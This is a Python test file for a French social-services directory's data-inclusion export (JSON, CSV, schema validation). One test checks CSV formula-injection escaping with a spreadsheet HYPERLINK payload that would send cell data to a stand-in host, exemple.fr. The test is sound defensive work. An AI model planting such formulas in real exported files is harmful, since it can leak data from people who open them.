import csv
import io
import json

from collectivites.tenancy import tenant_context
from reseau import data_inclusion
from reseau.models import Structure


def test_the_directory_is_exported_in_the_data_inclusion_schema(
    client, alice, lot, structure_a, structure_a2, lieu_a, zoe
):
    with tenant_context(lot):
        Structure.objects.filter(pk=structure_a2.pk).update(siret="73282932000074", email="ccas@cahors.fr")
        lieu_a.horaires = "Mo-Fr 09:00-12:00"
        lieu_a.save()
    client.force_login(alice)
    reponse = client.get("/reseau/export/data-inclusion.json")
    donnees = json.loads(reponse.content)
    assert reponse["Content-Disposition"].startswith("attachment;")
    assert {d["nom"] for d in donnees} == {"Département du Lot — Solidarités", "CCAS de Cahors"}
    ccas = next(d for d in donnees if d["nom"] == "CCAS de Cahors")
    assert ccas["siret"] == "73282932000074" and ccas["reseaux_porteurs"] == ["ccas-cias"]
    assert ccas["code_insee"] == "46042" and ccas["id"] == f"relais-lot--{structure_a2.pk}"
    departement = next(d for d in donnees if d["reseaux_porteurs"] == ["departements"])
    assert departement["horaires_accueil"] == "Mo-Fr 09:00-12:00"
    lignes = list(csv.DictReader(io.StringIO(client.get("/reseau/export/data-inclusion.csv").content.decode())))
    assert len(lignes) == 2 and "Bétaville" not in str(lignes)
    assert client.get("/reseau/export/data-inclusion.xml").status_code == 404


def test_a_record_the_schema_refuses_is_reported_not_exported(lot, structure_a):
    with tenant_context(lot):
        Structure.objects.filter(pk=structure_a.pk).update(nom="AB")  # under the schema's 3 characters
        valides, erreurs = data_inclusion.structures(lot, Structure.objects.all())
    assert valides == [] and "nom" in erreurs[0][1]


def test_the_data_inclusion_csv_neutralises_a_formula(client, alice, lot, structure_a2):
    """A structure named like a formula is exported as text: a spreadsheet opening the CSV runs nothing."""
    formule = '=HYPERLINK("https://exemple.fr/?q="&A1;"Cliquez")'
    with tenant_context(lot):
        Structure.objects.filter(pk=structure_a2.pk).update(nom=formule, telephone="+33 5 65 00 00 00")
    client.force_login(alice)
    reponse = client.get("/reseau/export/data-inclusion.csv")
    assert reponse["Content-Disposition"].startswith("attachment;")
    lignes = list(csv.DictReader(io.StringIO(reponse.content.decode())))
    ccas = next(ligne for ligne in lignes if ligne["id"] == f"relais-lot--{structure_a2.pk}")
    assert ccas["nom"] == "'" + formule
    assert not any(v.startswith(("=", "+", "-", "@")) for ligne in lignes for v in ligne.values())
    json_ = client.get("/reseau/export/data-inclusion.json").json()  # JSON is data, not a spreadsheet: as is
    assert formule in {d["nom"] for d in json_}
